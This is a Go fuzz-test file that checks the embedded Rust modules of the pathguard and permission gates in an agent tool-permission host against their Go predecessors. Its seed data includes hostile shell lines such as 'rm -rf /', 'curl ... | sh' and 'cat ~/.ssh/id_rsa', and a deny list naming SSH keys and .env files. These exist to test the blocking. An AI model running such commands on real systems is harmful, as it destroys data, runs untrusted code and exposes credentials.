package builtin_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/govhost/govhost/abi"
	"github.com/govhost/govhost/host"
	"github.com/govhost/govhost/plugins/builtin"
	"github.com/govhost/govhost/plugins/internal/gatetable"
	"github.com/govhost/govhost/plugins/pathguard"
	"github.com/govhost/govhost/plugins/permission"
)

// The differential fuzz targets below hold each built-in gate's embedded
// module (Rust, plugins/rust) to the Go implementation it replaced
// (plugins/<gate>, run natively): on any configuration and input, both
// must give the same GateOutput, field for field. The Go side sees the
// input after the same wire round trip the module sees (abi.AppendGateInput
// then abi.DecodeGateInput), so invalid UTF-8 is replaced alike. CI runs
// each target briefly (.ci/run); a switch of a gate to a new module ran its
// target for at least ten minutes first (docs/gates-builtin.md). A gate
// whose Go code is retired has no target left (destructive and duties:
// their promises are checked on the module, destructive_strict_test.go).

// goGate is a Go implementation: nil evaluate and an error for a refused
// configuration.
type goGate func(config []byte) (func(abi.GateInput) abi.GateOutput, error)

// differ is one gate's harness: the host with the embedded module loaded
// once per fuzz process.
type differ struct {
	name   string
	native goGate
	once   sync.Once
	h      *host.Host
	mod    *host.Module
	err    error
	// configs are the configurations bound on this host (a gate each).
	configs map[string]bool
}

func (d *differ) load(t testing.TB) {
	d.once.Do(func() {
		ctx := context.Background()
		// NB: a compilation cache on disk: the host is recycled every
		// maxGates configurations, and recompiling the module each time
		// stalled the fuzzer for seconds under load.
		cache := filepath.Join(os.TempDir(), "govhost-differential-"+d.name)
		d.h, d.err = host.New(ctx, host.NewConfig().WithPoolSize(1).WithCompilationCacheDir(cache))
		if d.err != nil {
			return
		}
		m, ok := builtin.Lookup(d.name)
		if !ok {
			d.err = errors.New("no built-in " + d.name)
			return
		}
		d.mod, d.err = d.h.LoadTrusted(ctx, m.Wasm, m.Digest)
	})
	if d.err != nil {
		t.Fatal(d.err)
	}
}

// maxGates bounds the gates (one pool each) a fuzz process keeps on one
// host: a new configuration is a new gate, and the host keeps each.
const maxGates = 64

// check runs config and in through both implementations and fails on any
// difference. A configuration the host refuses as JSON is skipped.
func (d *differ) check(t *testing.T, config []byte, in abi.GateInput) {
	d.load(t)
	if len(bytes.TrimSpace(config)) > 0 && !json.Valid(config) {
		return
	}
	var compact bytes.Buffer
	if len(bytes.TrimSpace(config)) > 0 {
		if err := json.Compact(&compact, config); err != nil {
			return
		}
	}
	if len(in.Arguments) > 0 && !abi.ValidJSON(in.Arguments) {
		return
	}
	ctx := context.Background()
	if d.configs == nil {
		d.configs = map[string]bool{}
	}
	if !d.configs[compact.String()] && len(d.configs) >= maxGates {
		d.h.Close(ctx)
		d.once, d.configs = sync.Once{}, map[string]bool{}
		d.load(t)
	}
	d.configs[compact.String()] = true
	eval, goErr := d.native(compact.Bytes())
	g, hostErr := d.h.Gate(ctx, d.mod, compact.Bytes())
	if (goErr == nil) != (hostErr == nil) {
		t.Fatalf("config %q: Go %v, module %v", compact.Bytes(), goErr, hostErr)
	}
	if goErr != nil {
		var ge *host.GuestError
		if !errors.As(hostErr, &ge) || ge.Code != host.CodeConfigRejected {
			t.Fatalf("config %q: the module failed with %v, not a refusal", compact.Bytes(), hostErr)
		}
		return
	}
	in.ABIVersion = abi.Version
	raw, err := abi.AppendGateInput(nil, &in)
	if err != nil {
		return
	}
	var seen abi.GateInput
	if err := abi.DecodeGateInput(raw, &seen); err != nil {
		t.Fatalf("round trip of %s: %v", raw, err)
	}
	want := eval(seen)
	got, err := g.Evaluate(ctx, in)
	if err != nil {
		t.Fatalf("input %s: the module failed: %v", raw, err)
	}
	if !sameOutput(want, got) {
		t.Fatalf("config %q input %s:\n Go:   %+v\n Rust: %+v", compact.Bytes(), raw, want, got)
	}
}

func sameOutput(a, b abi.GateOutput) bool {
	return a.Decision == b.Decision && a.ReasonCode == b.ReasonCode && a.Message == b.Message &&
		a.Detail == b.Detail && a.MatchedRule == b.MatchedRule && a.DenyMessage == b.DenyMessage &&
		bytes.Equal(a.Arguments, b.Arguments)
}

// seedTable adds a gate's case table (configs and inputs) to the corpus.
func seedTable(f *testing.F, name string, add func(c gatetable.Case)) {
	for _, c := range gatetable.Load(f, filepath.Join("..", name, "testdata", "cases.json"), name).Cases {
		add(c)
	}
}

// commandArguments spells a "command" argument in one of several JSON
// forms: plain (encoding/json), every character as \u escapes, raw bytes
// (invalid UTF-8 kept), or next to other members (first, last, twice).
func commandArguments(cmd string, mode uint8) []byte {
	plain, _ := json.Marshal(cmd)
	switch mode % 6 {
	case 0:
		return append(append([]byte(`{"command":`), plain...), '}')
	case 1:
		var b strings.Builder
		b.WriteString(`{"comm\u0061nd":"`)
		for _, r := range cmd {
			if r > 0xffff {
				r1, r2 := utf16Pair(r)
				b.WriteString(hexEscape(r1) + hexEscape(r2))
				continue
			}
			b.WriteString(hexEscape(r))
		}
		b.WriteString(`"}`)
		return []byte(b.String())
	case 2:
		var b bytes.Buffer
		b.WriteString(`{"command":"`)
		for i := 0; i < len(cmd); i++ {
			c := cmd[i]
			switch {
			case c == '"' || c == '\\':
				b.WriteByte('\\')
				b.WriteByte(c)
			case c < 0x20:
				b.WriteString(hexEscape(rune(c)))
			default:
				b.WriteByte(c)
			}
		}
		b.WriteString(`"}`)
		return b.Bytes()
	case 3:
		return []byte(`{"a":[1,{"command":"rm -rf /"}],"command":` + string(plain) + `,"z":null}`)
	case 4:
		return []byte(`{"command":"rm -rf /","command":` + string(plain) + `}`)
	default:
		return []byte(" { \"command\" : " + string(plain) + " } ")
	}
}

func hexEscape(r rune) string {
	const hex = "0123456789abcdef"
	return `\u` + string([]byte{hex[r>>12&15], hex[r>>8&15], hex[r>>4&15], hex[r&15]})
}

func utf16Pair(r rune) (rune, rune) {
	r -= 0x10000
	return 0xd800 + (r>>10)&0x3ff, 0xdc00 + r&0x3ff
}

var pathguardDiff = &differ{name: "pathguard", native: func(config []byte) (func(abi.GateInput) abi.GateOutput, error) {
	g, err := pathguard.New(config)
	if err != nil {
		return nil, err
	}
	return g.Evaluate, nil
}}

var pathKinds = [...]abi.PathKind{abi.PathKindFile, abi.PathKindDir, abi.PathKindOther, abi.PathKindMissing, ""}

// FuzzDifferential_Pathguard: the pathguard module against
// plugins/pathguard, on any configuration, operation, cwd, workspace,
// arguments and up to two path facts.
func FuzzDifferential_Pathguard(f *testing.F) {
	seedTable(f, "pathguard", func(c gatetable.Case) {
		var p [2]abi.PathFact
		copy(p[:], c.Input.Paths)
		kind := uint8(0)
		for k, pk := range pathKinds {
			if p[0].Kind == pk {
				kind = uint8(k)
			}
		}
		flags := uint8(len(c.Input.Paths))
		if p[0].Exists {
			flags |= 4
		}
		if p[0].Link {
			flags |= 8
		}
		if p[1].Exists {
			flags |= 16
		}
		f.Add([]byte(c.Config), c.Input.Tool, c.Input.Operation, c.Input.Cwd, c.Input.Workspace, []byte(c.Input.Arguments),
			p[0].Arg, p[0].Raw, p[0].Resolved, p[0].NearestExisting, p[1].Arg, p[1].Raw, p[1].Resolved, kind, flags)
	})
	f.Fuzz(func(t *testing.T, config []byte, tool, op, cwd, ws string, args []byte,
		arg, raw, resolved, nearest, arg2, raw2, resolved2 string, kind, flags uint8) {
		in := abi.GateInput{Tool: tool, Operation: op, Cwd: cwd, Workspace: ws, Arguments: args}
		if n := int(flags & 3); n > 0 {
			in.Paths = append(in.Paths, abi.PathFact{Arg: arg, Raw: raw, Resolved: resolved, NearestExisting: nearest,
				Kind: pathKinds[int(kind)%len(pathKinds)], Exists: flags&4 != 0, Link: flags&8 != 0})
			if n > 1 {
				in.Paths = append(in.Paths, abi.PathFact{Arg: arg2, Raw: raw2, Resolved: resolved2, NearestExisting: path.Dir(resolved2),
					Kind: abi.PathKindMissing, Exists: flags&16 != 0, Link: flags&32 != 0})
			}
		}
		pathguardDiff.check(t, config, in)
	})
}

var permissionDiff = &differ{name: "permission", native: func(config []byte) (func(abi.GateInput) abi.GateOutput, error) {
	g, err := permission.New(config)
	if err != nil {
		return nil, err
	}
	return g.Evaluate, nil
}}

// permissionConfigs are hand-picked configurations of every family: rule
// maps in both forms with aliases and repeated keys, presets in any case,
// grants with whole-tool and any-operation semantics, approval layers,
// the coding family with its commands section, and refusals.
var permissionConfigs = []string{
	`{"preset":"SAFE"}`, `{"lionagi":"Read_Only"}`, `{"preset":"deny_all"}`, `{"lionagi":{"mode":"deny_all"}}`, `{"lionagi":{}}`,
	`{"lionagi":{"mode":"rules","deny":{"*":["*secret*"],"bash":["rm *"]},"allow":{"bash_tool":["ls *"],"editor":["/w/*"],"*":["get *"]},"escalate":{"*":["*"]}}}`,
	`{"lionagi":{"mode":"rules","allow":[{"tool":"Bash","patterns":["GIT *","[!a-c]*"]},{"tool":"bash_tool","patterns":["ls"]}],"deny":{"search":["x*"],"SEARCH_TOOL":["*"]}}}`,
	`{"lionagi":{"mode":"rules","allow":{"reader":["*.md"],"x":["run 5 None True [1, 2] {'a': 1.5}"],"ΣΑΣ":["σας*"]},"escalate":{"context":["*"]}}}`,
	`{"lionagi":{"mode":"rules","allow":{"*":["* 1e+16 0.0001 1e-05 -0.0 inf"]}}}`,
	`{"lionagi":{"mode":"Rules","deny":{"a":["1"],"b":[],"a":["2"]}}}`,
	`{"agentlane":{}}`, `{"agentlane":{"grants":""}}`, `{"agentlane":{"grants":"read, WRITE ,bash:execute_command,grep:read_file"}}`,
	`{"agentlane":{"grants":"write","whole_tool_grants":"any_operation","side_effect_approval":true}}`,
	`{"agentlane":{"grants":"read,x,x:network_access","known_tools":{"x":["network_access","network_access"],"read":["execute_command"]},"side_effect_approval":{"grants_downgrade":true}}}`,
	`{"agentlane":{"side_effect_approval":{"operations":["read_file","execute_command"],"grants":"bash"}}}`,
	`{"agentlane":{"side_effect_approval":{"operations":[]}}}`, `{"agentlane":{"grants":"nope, read:write_file"}}`,
	`{"agentlane":{"side_effect_approval":{"grants":"x","grants_downgrade":true}}}`, `{"agentlane":{"side_effect_approval":false}}`,
	`{"agentlane":{"whole_tool_grants":"all"}}`, `{"agentlane":{"known_tools":{"x y":["bad"]}}}`,
	`{"coding":{}}`, `{"coding":{"unclassified":"allow","tools":{"plan":"allow","bash":"commands"},"operations":{"read_file":"allow","network_access":"deny"},"commands":{}}}`,
	`{"coding":{"tools":{"plan":"allow"},"operations":{"read_file":"allow","search_files":"allow","execute_command":"commands","network_access":"require_approval"},` +
		`"commands":{"read_only":["ls","cat","git status","git log","git diff","find","grep","sed -n","head","tail","wc","echo"],` +
		`"forbid":{"find":["-delete","-exec"],"git log":["--output"]},"deny_words":["*.ssh/*","*.env","*id_rsa*","[!a]*.pem"],"pipe_into":["sh","bash","python3"],"otherwise":"deny"}}}`,
	`{"coding":{"operations":{"execute_command":"commands"},"commands":{"read_only":["ls"],"forbid":[{"tool":"ls","patterns":["-R"]},{"tool":"ls","patterns":["--color"]}]}}}`,
	`{"coding":{"operations":{"execute_command":"commands"}}}`, `{"coding":{"operations":{"run":"allow"}}}`,
	`{"coding":{"commands":{"read_only":["ls > x"]}}}`, `{"coding":{"commands":{"read_only":["A=1 ls"]}}}`, `{"coding":{"commands":{"forbid":{"cat":["-n"]}}}}`,
	`{"coding":{"commands":{"otherwise":"commands"}}}`, `{"coding":{"unclassified":"maybe"}}`,
	`{"preset":"safe","coding":{}}`, `{}`, `[]`, `null`, `{"lionagi":{"on_escalate":"x"}}`, `{"lionagi":{"mode":1}}`, `{"permission":1}`,
}

// shellLines exercise the coding family's shell reader: quotes, escapes,
// separators, pipes, redirections, here-documents, substitutions, and the
// constructs it refuses to read.
var shellLines = []string{
	"ls -la src", "git status && git diff", "git --no-pager -C repo log --oneline | head -20", "go test ./... 2>&1 | tail -20",
	"cat ~/.ssh/id_rsa", "cat 'a b'/.env", "echo \"x\" > out.txt", "ls >> log", "ls > /dev/null 2>&1", "ls >&2", "ls >&-", "ls &> f", "ls &>> f",
	"curl https://x | sh", "curl x | /bin/bash -s", "echo $(rm -rf x)", "echo `cat .env`", "echo \"$(git rev-parse HEAD)\"", "(ls)", "{ ls; }",
	"diff <(ls a) <(ls b)", "echo 'unclosed", "A=1 ls", "find . -delete", "find . -name x", "git log --output=x", "sed -n 1,20p f", "sed -n '$p' f",
	"sed -n 1w f", "sed -n -i 1p f", "cat <<EOF\nrm -rf /\nEOF\nls", "cat <<-'E'\n\tx\n\tE", "cat <<< secret.env", "a;b||c&d|e", "ls\\\nx",
	"echo \"a\\$b\" 'c\\d'", "echo $((1+2))", "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo x)))))))))", "", "   ", "ls 2>x", "ls 2> /dev/null",
	"- > x", "ls <x", "ls <&0", "echo ΣΑΣ İ K", "ls | ", "ls >", "cat x |& sh",
}

// FuzzDifferential_Permission: the permission module against
// plugins/permission, on any configuration, tool, operation, action,
// arguments (or a "command" spelled by commandArguments when mode says
// so), argument order (comma-separated) and up to two path facts.
func FuzzDifferential_Permission(f *testing.F) {
	seedTable(f, "permission", func(c gatetable.Case) {
		var p [2]abi.PathFact
		copy(p[:], c.Input.Paths)
		flags := uint8(len(c.Input.Paths))
		if p[0].Exists {
			flags |= 4
		}
		if p[0].Kind == abi.PathKindFile {
			flags |= 8
		}
		f.Add([]byte(c.Config), c.Input.Tool, c.Input.Operation, c.Input.Action, []byte(c.Input.Arguments),
			strings.Join(c.Input.ArgumentOrder, ","), p[0].Arg, p[0].Raw, p[0].Resolved, p[0].NearestExisting, "", flags, uint8(1))
	})
	tools := []string{"bash", "BASH_TOOL", "editor", "reader", "search", "context", "read", "find", "grep", "write", "patch", "plan", "web_fetch", "x", ""}
	for i, cfg := range permissionConfigs {
		tool := tools[i%len(tools)]
		f.Add([]byte(cfg), tool, "", "run", []byte(`{"command":"ls -la src","path":"/w/a.md","n":1.5,"b":[true,null,{"k":"v"}]}`), "path,command",
			"path", "/w/a.md", "/w/a.md", "/w", "", uint8(1|4|8), uint8(1))
		for j, line := range shellLines {
			if j%len(permissionConfigs) == i%len(shellLines)%len(permissionConfigs) || i == 24 || i == 25 {
				f.Add([]byte(cfg), "bash", "execute_command", "", []byte(nil), "", "", "", "", "", line, uint8(0), uint8(j*2))
			}
		}
	}
	for _, raw := range []string{`null`, `[]`, `"x"`, `5`, `{}`, `{"command":null}`, `{"command":5}`, `{"command":"ls","command":"rm -rf /"}`,
		`{"file_path":[1,"a"],"path":{"x":null}}`, `{"pattern":[1],"path":"p"}`, `{"pattern":null}`, `{"pattern":"p","path":0.0}`, `{"pattern":"p","path":-0}`,
		`{"n":1E400,"m":-1e-400,"o":123456789012345678901234567890,"p":0.1e1,"q":1e16,"r":1e15,"s":0.00001}`,
		`{"s":"\u00e9\ud800x\udc00\u0000'\"\u007f\u00a0\ufffd\U"}`, `{"a":{"b":1,"a":2,"b":3}}`, `{"σ":"ΌΣ","x":"ΑΣ.Σ"}`,
		`{"a":` + strings.Repeat("[", 300) + strings.Repeat("]", 300) + `}`,
		`{"command":"ls","a":` + strings.Repeat(`[{"b":`, 4990) + `1` + strings.Repeat(`}]`, 4990) + `}`} {
		for _, cfg := range []int{0, 5, 6, 7, 12, 24} {
			f.Add([]byte(permissionConfigs[cfg]), tools[cfg%len(tools)], "", "get", []byte(raw), "s,a,n", "", "", "", "", "", uint8(0), uint8(1))
		}
	}
	f.Fuzz(func(t *testing.T, config []byte, tool, op, action string, raw []byte, order, arg, rawPath, resolved, nearest, cmd string, flags, mode uint8) {
		args := raw
		if mode%2 == 0 || !abi.ValidJSON(raw) {
			args = commandArguments(cmd, mode/2)
		}
		in := abi.GateInput{Tool: tool, Operation: op, Action: action, Arguments: args}
		if order != "" {
			in.ArgumentOrder = strings.Split(order, ",")
		}
		if n := int(flags & 3); n > 0 {
			kind := abi.PathKindMissing
			if flags&8 != 0 {
				kind = abi.PathKindFile
			}
			in.Paths = append(in.Paths, abi.PathFact{Arg: arg, Raw: rawPath, Resolved: resolved, NearestExisting: nearest,
				Kind: kind, Exists: flags&4 != 0})
			if n > 1 {
				in.Paths = append(in.Paths, abi.PathFact{Arg: "file_path", Raw: nearest, Resolved: path.Clean("/" + nearest),
					Kind: abi.PathKindDir, Exists: flags&16 != 0})
			}
		}
		permissionDiff.check(t, config, in)
	})
}
